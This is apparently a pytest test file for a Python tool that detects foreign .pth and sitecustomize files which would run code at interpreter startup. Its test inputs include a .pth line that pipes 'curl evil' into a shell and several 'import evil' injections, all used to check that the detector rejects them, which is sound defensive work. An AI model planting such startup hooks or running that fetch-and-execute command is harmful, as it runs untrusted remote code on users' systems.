from __future__ import annotations

import os
import site
import subprocess
import sys
from pathlib import Path

import pytest

import wirken
from wirken.confine import sitefiles

OURS = Path(wirken.__file__).parent.parent
SETUPTOOLS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); \n"
)


def found(packages: Path, library: Path | None = None) -> list[str]:
    return [path.name for path in sitefiles.foreign([str(packages)], library or packages / "none")]


def test_the_environment_of_these_tests_holds_nothing_foreign() -> None:
    assert list(sitefiles.foreign(site.getsitepackages(), Path(os.__file__).parent)) == []
    sitefiles.refuse_foreign()


@pytest.mark.parametrize(
    ("content", "known"),
    [
        ("", True),
        ("\n", True),
        (str(OURS), True),
        (f"{OURS}\n", True),
        (SETUPTOOLS, True),
        ("/home/me/.local/share/pipx/shared/lib/python3.12/site-packages\n", True),
        (f"{OURS}/..", False),
        (f"{OURS}\nimport os", False),
        ("/tmp/elsewhere", False),
        ("import os; os.system('curl evil | sh')", False),
        (SETUPTOOLS + "\nimport evil", False),
        ("/x/pipx/shared/lib/python3.12/site-packages\nimport evil", False),
        ("#" * 70_000, False),
    ],
)
def test_a_pth_file_is_known_by_what_it_says(tmp_path: Path, content: str, known: bool) -> None:
    (tmp_path / "some.pth").write_text(content)
    assert found(tmp_path) == ([] if known else ["some.pth"])


@pytest.mark.parametrize("name", ["sitecustomize.py", "sitecustomize.cpython-311-x86_64-linux-gnu.so", "sitecustomize"])
@pytest.mark.parametrize("place", ["packages", "library"])
def test_a_sitecustomize_is_foreign_wherever_it_would_be_imported(tmp_path: Path, name: str, place: str) -> None:
    for folder in ("packages", "library"):
        (tmp_path / folder).mkdir()
    if "." in name:
        (tmp_path / place / name).write_text("import evil")
    else:
        (tmp_path / place / name).mkdir()
    assert found(tmp_path / "packages", tmp_path / "library") == [name]


def test_what_the_interpreter_would_not_run_is_no_business_of_ours(tmp_path: Path) -> None:
    for name in ("notes.txt", "some.pth.bak", "sitecustomize.txt", "mysitecustomize.py"):
        (tmp_path / name).write_text("import evil")
    (tmp_path / "dangling.pth").symlink_to(tmp_path / "absent")
    (tmp_path / "sitecustomize.py").symlink_to(tmp_path / "absent")
    assert found(tmp_path) == []


def test_the_refusal_names_the_file_and_the_next_step(tmp_path: Path) -> None:
    code = (
        "import site, sys\nfrom wirken.confine import sitefiles\n"
        "site.getsitepackages = lambda: [sys.argv[1]]\n"
        "try:\n    sitefiles.refuse_foreign()\n"
        "except sitefiles.ForeignCode as error:\n    print(error, error.advice)\n"
    )
    (tmp_path / "evil.pth").write_text("import evil")
    done = subprocess.run([sys.executable, "-I", "-c", code, str(tmp_path)], capture_output=True, text=True, check=True)
    assert str(tmp_path / "evil.pth") in done.stdout
    assert "python3 -m venv" in done.stdout
